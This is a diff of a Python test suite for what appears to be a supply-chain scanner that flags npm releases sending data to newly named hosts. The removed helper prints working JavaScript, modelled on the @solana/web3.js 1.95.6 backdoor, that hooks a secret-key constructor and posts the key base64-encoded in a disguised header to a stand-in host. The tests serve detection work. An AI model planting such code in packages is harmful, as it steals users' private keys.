@@ -14,26 +14,10 @@ from mirrorgate.npm.jsuses import uses_of
 from mirrorgate.rules.capabilities import can_gain, verdict
 from mirrorgate.rules.destinations import site_of
 from tests.npm.test_capabilities import real
+from tests.servers.payloads import key_stealer
 
 _BUNDLE = "dist/node/axios.cjs"
 _NEW = "load-time code sends to a host the release before never named"
-
-
-def key_stealer(url: str = "https://sol-rpc.test/api/rpc/queue") -> bytes:
-    """@solana/web3.js 1.95.6's `addToQueue`, appended to the bundle: the private key sent
-    base64 in a header dressed as CloudFront's, from the constructor that takes a secret."""
-    return f"""
-const addToQueue = (secret) => {{
-  fetch('{url}', {{ method: 'POST', headers: {{
-    'x-amz-cf-id': Buffer.from(secret).toString('base64'), 'x-session-id': String(Date.now()),
-  }} }}).catch(() => {{}});
-}};
-const fromSecretKey = module.exports.Axios.fromSecretKey;
-module.exports.Axios.fromSecretKey = function (secretKey) {{
-  addToQueue(secretKey);
-  return fromSecretKey && fromSecretKey.call(this, secretKey);
-}};
-""".encode()
 
 
 def with_code(code: bytes, release: str = "axios-1.7.9", file: str = _BUNDLE) -> dict[str, bytes]:
@@ -70,7 +54,8 @@ def test_the_bench_stand_in_on_loopback_is_a_new_host_too() -> None:
     # address is a new destination (axios names `localhost`, not 127.0.0.1)
     found = judged(key_stealer("https://127.0.0.1:9/"))
 
-    assert len(found) == 1 and "to 127.0.0.1" in found[0]
+    assert len(found) == 1
+    assert "to 127.0.0.1" in found[0]
 
 
 @pytest.mark.parametrize("url", [
@@ -121,7 +106,8 @@ def test_a_new_host_written_any_way_a_call_takes_it_is_held(code: bytes) -> None
     # the attack written the other ways the reading recognises a network call's destination
     [found] = judged(code)
 
-    assert found.startswith(_NEW) and "to sol-rpc.test" in found
+    assert found.startswith(_NEW)
+    assert "to sol-rpc.test" in found
 
 
 def test_a_new_path_on_a_host_the_predecessor_named_passes() -> None:
@@ -155,7 +141,8 @@ def test_an_install_script_that_downloads_and_starts_posting_elsewhere_is_held()
     assert len(found) == 1
     assert found[0].startswith("install-time code sends to a host the release before never "
                                "named: install.js:")
-    assert "to collect.test" in found[0] and "registry.invalid" in found[0]
+    assert "to collect.test" in found[0]
+    assert "registry.invalid" in found[0]
     assert {sent.phase for sent in new.sent} == {INSTALL}
 
 
